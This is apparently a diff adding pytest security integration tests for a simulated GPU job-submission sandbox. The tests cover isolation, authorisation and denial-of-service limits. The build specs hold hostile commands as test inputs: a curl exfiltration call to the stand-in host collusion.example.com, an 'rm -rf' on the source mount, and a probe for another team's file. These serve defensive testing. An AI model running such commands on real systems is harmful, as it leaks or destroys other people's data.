@@ -1,0 +1,144 @@
+"""Security-focused integration tests: the §II isolation story, attacked."""
+
+import pytest
+
+from repro.core.job import JobKind, JobStatus
+from repro.core.system import RaiSystem
+
+BASE = {
+    "main.cu": "// @rai-sim quality=0.5 impl=analytic\n",
+    "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
+}
+
+
+def spec_with(commands):
+    body = "\n".join(f"    - {c}" for c in commands)
+    return ("rai:\n  version: 0.1\n  image: webgpu/rai:root\n"
+            f"commands:\n  build:\n{body}\n")
+
+
+@pytest.fixture
+def system():
+    return RaiSystem.standard(num_workers=1, seed=77)
+
+
+class TestCrossJobIsolation:
+    def test_jobs_cannot_see_previous_jobs_files(self, system):
+        """Fresh container per job: nothing persists between jobs."""
+        alice = system.new_client(team="alice-team")
+        alice.stage_project(dict(BASE))
+        alice.set_build_file(spec_with([
+            "echo alices-secret-result > /build/secret.txt",
+            "cat /build/secret.txt",
+        ]))
+        first = system.run(alice.submit())
+        assert "alices-secret-result" in first.stdout_text()
+
+        mallory = system.new_client(team="mallory-team")
+        mallory.stage_project(dict(BASE))
+        mallory.set_build_file(spec_with([
+            "cat /build/secret.txt",
+            "ls /build",
+        ]))
+        probe = system.run(mallory.submit())
+        assert "alices-secret-result" not in probe.stdout_text()
+        assert "No such file" in probe.stderr_text()
+
+    def test_project_mount_is_read_only(self, system):
+        client = system.new_client(team="t")
+        client.stage_project(dict(BASE))
+        client.set_build_file(spec_with([
+            "rm -rf /src/main.cu ; cat /src/main.cu",
+        ]))
+        result = system.run(client.submit())
+        assert "@rai-sim" in result.stdout_text()   # file survived
+
+    def test_no_network_for_exfiltration(self, system):
+        client = system.new_client(team="t")
+        client.stage_project(dict(BASE))
+        client.set_build_file(spec_with([
+            "curl http://collusion.example.com/upload",
+        ]))
+        result = system.run(client.submit())
+        assert result.status is JobStatus.FAILED
+        assert "network" in result.stderr_text().lower()
+
+
+class TestAuthorisationBoundaries:
+    def test_unregistered_user_cannot_submit(self, system):
+        from repro.auth.profile import RaiProfile
+        from repro.core.client import RaiClient
+
+        intruder = RaiClient(system, RaiProfile("ghost", "AAAA", "BBBB"),
+                             team="ghost-team")
+        intruder.stage_project(dict(BASE))
+        result = system.run(intruder.submit())
+        assert result.status is JobStatus.REJECTED
+
+    def test_revoked_student_locked_out(self, system):
+        client = system.new_client(team="t", username="expelled")
+        client.stage_project(dict(BASE))
+        system.keystore.revoke("expelled")
+        result = system.run(client.submit())
+        assert result.status is JobStatus.REJECTED
+
+    def test_stolen_access_key_without_secret_useless(self, system):
+        victim = system.new_client(team="victim")
+        from repro.auth.profile import RaiProfile
+        from repro.core.client import RaiClient
+
+        thief = RaiClient(
+            system,
+            RaiProfile("thief", victim.profile.access_key, "guessed"),
+            team="thief-team")
+        thief.stage_project(dict(BASE))
+        result = system.run(thief.submit())
+        assert result.status is JobStatus.REJECTED
+
+
+class TestDoSResistance:
+    def test_rate_limit_bounds_throughput_per_team(self, system):
+        """§V: 'each student can only submit a job every 30 seconds'."""
+        client = system.new_client(team="flooder")
+        client.stage_project(dict(BASE))
+
+        def flood(sim):
+            accepted = 0
+            for _ in range(10):
+                result = yield from client.submit()
+                if result.status is not JobStatus.REJECTED:
+                    accepted += 1
+            return accepted
+
+        start = system.sim.now
+        accepted = system.run(flood(system.sim))
+        elapsed = system.sim.now - start
+        # Can never beat one accepted submission per 30 s.
+        assert accepted <= elapsed / 30.0 + 1
+
+    def test_lifetime_cap_reclaims_stuck_jobs(self, system):
+        client = system.new_client(team="hanger")
+        client.stage_project({
+            "main.cu": "// @rai-sim runtime=hang\n",
+            "CMakeLists.txt": "add_executable(ece408 main.cu)\n",
+        })
+        result = system.run(client.submit())
+        assert result.status is JobStatus.FAILED
+        # the worker survived and takes the next job
+        other = system.new_client(team="patient")
+        other.stage_project(dict(BASE))
+        follow_up = system.run(other.submit())
+        assert follow_up.status is JobStatus.SUCCEEDED
+
+    def test_log_flood_capped(self, system):
+        client = system.new_client(team="chatty")
+        client.stage_project(dict(BASE))
+        client.set_build_file(spec_with(
+            ["echo " + "x" * 900] * 30))
+        # tighten the cap for the test
+        for worker in system.workers:
+            from repro.container.limits import ResourceLimits
+
+            worker.config.limits = ResourceLimits(max_output_bytes=4096)
+        result = system.run(client.submit())
+        assert result.status is JobStatus.FAILED
